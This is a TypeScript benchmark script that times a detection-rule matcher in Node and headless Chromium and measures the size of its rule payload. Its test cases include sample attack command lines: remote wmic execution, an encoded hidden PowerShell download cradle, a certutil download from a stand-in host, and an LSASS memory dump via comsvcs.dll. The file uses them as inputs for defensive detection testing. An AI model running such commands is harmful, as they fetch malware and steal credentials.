/**
 * Tester timings shared by `npm run bench` and scripts/bench-tester.ts: median / p95 of
 * matchEvent (one built process event against every rule) in Node and, on what the web worker
 * loads for a command line (the chunk files, the add-on table, the lookup tables), in Chromium;
 * and the payload's size as it ships (the chunk files, gzipped one by one).
 */
import { gzipSync } from "node:zlib"

import { build } from "esbuild"

import type { Catalog, Detection } from "../../lib/catalog/types.ts"
import { buildProcessEvents, type ProcessInput } from "../../lib/tester/event.ts"
import {
  compileCatalog,
  matchEvent,
  matchEventReference,
  type CompiledCatalog,
  type MatchOptions,
  type TesterInput,
} from "../../lib/tester/match.ts"
import { builtGateSources } from "../../lib/tester/inputs.ts"
import { chunksFor, testerChunks } from "../../lib/tester/rules-chunks.ts"
import { testerRules } from "../../lib/tester/rules-data.ts"
import { launchChromium } from "./chromium.ts"
import { tableFiles } from "../../lib/tester/tables.ts"
import type { BrowserCase, BrowserPayload, BrowserRow } from "./tester-entry.ts"

export const TESTER_CASES: Array<[string, ProcessInput]> = [
  [
    "wmic remote",
    {
      cmd: 'wmic /node:10.1.2.3 process call create "cmd.exe /c whoami"',
      parent: "cmd.exe",
      user: "CORP\\alice",
      host: "ws-042",
    },
  ],
  [
    "encoded powershell",
    {
      cmd: "powershell.exe -nop -w hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
      parent: "winword.exe",
    },
  ],
  [
    "certutil -urlcache",
    {
      cmd: "certutil.exe -urlcache -split -f http://evil.example/payload.exe C:\\Users\\Public\\p.exe",
      parent: "cmd.exe",
    },
  ],
  [
    "rundll32 comsvcs minidump",
    {
      cmd: "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full",
      parent: "powershell.exe",
    },
  ],
  ["benign notepad", { cmd: "notepad.exe a.txt", parent: "explorer.exe" }],
]

export type TesterRow = {
  label: string
  impl: string
  nearMisses: boolean
  median: number
  p95: number
  fired: number
  near: number
  undecided: number
}

export function quantile(xs: number[], q: number): number {
  const s = [...xs].sort((a, b) => a - b)
  return s[Math.min(s.length - 1, Math.floor(s.length * q))] ?? 0
}

type Fn = (c: CompiledCatalog, i: TesterInput, o?: MatchOptions) => ReturnType<typeof matchEvent>

function time(compiled: CompiledCatalog, fn: Fn, input: TesterInput, options: MatchOptions, runs: number) {
  let report = fn(compiled, input, options)
  for (let i = 0; i < 100; i++) report = fn(compiled, input, options) // warm-up: JIT and caches
  const xs: number[] = []
  for (let i = 0; i < runs; i++) {
    const t = performance.now()
    report = fn(compiled, input, options)
    xs.push(performance.now() - t)
  }
  return {
    median: quantile(xs, 0.5),
    p95: quantile(xs, 0.95),
    fired: report.counts.fired,
    near: report.counts.nearMisses,
    undecided: report.counts.undecided,
  }
}

export function benchTesterNode(
  detections: readonly Detection[],
  { runs = 200, reference = false } = {},
): { compileMs: number; rules: number; rows: TesterRow[] } {
  const t = performance.now()
  const compiled = compileCatalog(detections)
  const compileMs = performance.now() - t
  const impls: Array<[string, Fn]> = [["matchEvent", matchEvent]]
  if (reference) impls.push(["reference", matchEventReference])
  const rows: TesterRow[] = []
  for (const [label, input] of TESTER_CASES) {
    const built = { built: buildProcessEvents(input) }
    for (const [impl, fn] of impls)
      for (const nearMisses of [false, true])
        rows.push({ label, impl, nearMisses, ...time(compiled, fn, built, { nearMisses }, runs) })
  }
  return { compileMs, rules: compiled.rules.length, rows }
}

/** What the tester ships for a catalog, measured on the files the worker fetches. */
export type TesterPayload = {
  /** Every chunk file: raw bytes and the sum of each file gzipped alone (as a server sends them). */
  raw: number
  gz: number
  /** Per format: its rows as the chunks write them, gzipped together, and how many rules. */
  formats: Array<{ format: string; rules: number; gz: number }>
  /** The chunks a command line needs (what the worker fetches first). */
  cmdRaw: number
  cmdGz: number
  /** What the Chromium part loads: the command-line chunks' texts, the add-on table and lookup tables. */
  browser: BrowserPayload
}

export function testerPayloadSize(
  catalog: Pick<Catalog, "detections" | "lookupTables" | "addOnFields">,
): TesterPayload {
  const rows = testerRules(catalog.detections)
  const { manifest, files } = testerChunks(rows)
  let raw = 0
  let gz = 0
  const byFormat = new Map<string, unknown[]>()
  for (const c of manifest.chunks) {
    const text = files.get(c.file)!
    raw += Buffer.byteLength(text)
    gz += gzipSync(text).length
    for (const row of JSON.parse(text) as Array<{ format: string }>) {
      const list = byFormat.get(row.format) ?? []
      list.push(row)
      byFormat.set(row.format, list)
    }
  }
  const formats = [...byFormat].map(([format, list]) => ({
    format,
    rules: list.length,
    gz: gzipSync(JSON.stringify(list)).length,
  }))
  // What the worker fetches for a command line: the chunks a process_creation event needs.
  let cmdRaw = 0
  let cmdGz = 0
  const chunks: string[] = []
  for (const c of chunksFor(manifest, [builtGateSources()], false)) {
    const text = files.get(c.file)!
    chunks.push(text)
    cmdRaw += Buffer.byteLength(text)
    cmdGz += gzipSync(text).length
  }
  const t = tableFiles(rows, catalog.lookupTables ?? {})
  const tables = Object.fromEntries(
    Object.entries(t.manifest).map(([name, info]) => [name, JSON.parse(t.files.get(info.file)!) as unknown]),
  )
  return { raw, gz, formats, cmdRaw, cmdGz, browser: { chunks, addOn: catalog.addOnFields ?? {}, tables } }
}

export async function benchTesterBrowser(
  payload: BrowserPayload,
  runs = 200,
): Promise<{ browser: string; compileMs: number; rows: BrowserRow[] }> {
  const bundle = await build({
    entryPoints: ["scripts/bench/tester-entry.ts"],
    bundle: true,
    write: false,
    format: "iife",
    target: "es2022",
    minify: true,
  })
  const browser = await launchChromium()
  try {
    const page = await browser.newPage()
    await page.goto("about:blank")
    await page.addScriptTag({ content: bundle.outputFiles[0]!.text })
    const cases: BrowserCase[] = TESTER_CASES.map(([label, input]) => ({ label, input }))
    const out = await page.evaluate(
      ([p, cs, n]) =>
        (
          globalThis as unknown as {
            benchTester: (p: BrowserPayload, c: BrowserCase[], r: number) => { compileMs: number; rows: BrowserRow[] }
          }
        ).benchTester(p, cs, n),
      [payload, cases, runs] as const,
    )
    return { browser: browser.version(), ...out }
  } finally {
    await browser.close()
  }
}

/** Prints rows as an aligned text table. */
export function printTable(rows: string[][]): void {
  const widths = rows[0]!.map((_, i) => Math.max(...rows.map((r) => (r[i] ?? "").length)))
  for (const r of rows)
    console.log(r.map((c, i) => (i === 0 ? c.padEnd(widths[i]!) : c.padStart(widths[i]!))).join("  "))
}
